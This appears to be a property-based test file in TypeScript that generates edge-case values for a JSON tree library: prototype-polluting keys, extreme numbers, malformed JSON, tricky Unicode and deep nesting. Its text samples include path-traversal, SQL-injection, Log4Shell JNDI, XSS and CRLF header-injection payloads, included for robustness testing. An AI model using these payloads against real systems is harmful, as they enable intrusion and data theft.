/** Values that programs handle badly, each of a kind that has broken a real system. */
import fc from 'fast-check'
import { Members, Token, type Tree } from './json-tree.ts'
import { oddInstants } from './odd-instants.ts'

/** Names that every object has already, and others that are awkward as a key. */
export const oddNames = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '',
  '$ref',
  'a/b~c',
  '\u2028',
  'ключ',
] as const

const numbers = [
  '1e400',
  '-1e400',
  '-0',
  '1e-400',
  '9007199254740991',
  '9007199254740993',
  '-9007199254740992',
  '9223372036854775808',
  '2147483648',
  '4294967296',
  '1e21',
  '1.7976931348623157e308',
  '5e-324',
  '0.1',
  '-1',
  '0',
  '1',
  '123456789012345678901234567890',
] as const

/** Looks like JSON, and is none. */
const almost = [
  'NaN',
  'Infinity',
  '01',
  '+1',
  '.5',
  '0x10',
  'undefined',
  "'x'",
  '',
  '{',
  ']',
  '1,',
  'nul',
  '/**/1',
] as const

const texts = [
  '',
  ' ',
  'null',
  'true',
  '0',
  'a\u0000b',
  '\ud800',
  'x\udc00',
  '\u2028\u2029',
  '\u202eabc\u202c',
  '\ufeff',
  '\u001b[2J\u009b31m',
  'İstanbul',
  'e\u0301',
  '👩‍👩‍👧‍👦',
  '../../etc/passwd',
  '%00%2e%2e%2f',
  "' OR 1=1; --",
  '${jndi:ldap://x.invalid}',
  '<script>alert(1)</script>',
  '\r\nX-Injected: yes',
  'x'.repeat(257),
  'ä'.repeat(1_000),
  'x'.repeat(20_000),
  'x'.repeat(70_000),
  ' '.repeat(5_000),
  '__proto__',
] as const

const nested = (depth: number, open: string, close: string): Token =>
  new Token(`${open.repeat(depth)}1${close.repeat(depth)}`)

const shapes: readonly Tree[] = [
  [],
  new Members([]),
  [null],
  [[[]]],
  nested(15, '[', ']'),
  nested(17, '[', ']'),
  nested(17, '{"a":', '}'),
  nested(3_000, '[', ']'),
  nested(5_000, '{"a":', '}'),
  Array.from({ length: 2_000 }, () => 0),
  new Members(Array.from({ length: 1_500 }, (_, at) => [`k${at}`, at] as const)),
  new Members([
    ['a', 1],
    ['a', 2],
  ]),
]

export const oddTexts = fc.oneof(fc.constantFrom(...texts), oddInstants, fc.string({ unit: 'binary', maxLength: 20 }))
export const oddNumbers = fc.constantFrom(...numbers)

export const oddValues: fc.Arbitrary<Tree> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom<Tree>(null, true, false) },
  { weight: 4, arbitrary: oddNumbers.map((text): Tree => new Token(text)) },
  { weight: 1, arbitrary: fc.constantFrom(...almost).map((text): Tree => new Token(text)) },
  { weight: 5, arbitrary: oddTexts },
  { weight: 3, arbitrary: fc.constantFrom(...shapes) },
)
